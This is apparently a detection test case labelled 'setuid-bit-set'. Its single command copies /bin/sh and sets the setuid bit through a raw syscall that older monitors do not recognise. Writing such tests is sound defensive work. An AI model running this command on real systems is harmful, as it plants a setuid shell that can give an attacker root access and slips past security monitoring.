# incident: a setuid shell by a call that older monitors do not know
# finding: setuid-bit-set
# needs: python3
cp /bin/sh shell && python3 -c "
import ctypes, os
if ctypes.CDLL(None).syscall(452, -100, b'shell', 0o4755, 0) != 0: os.chmod('shell', 0o4755)"
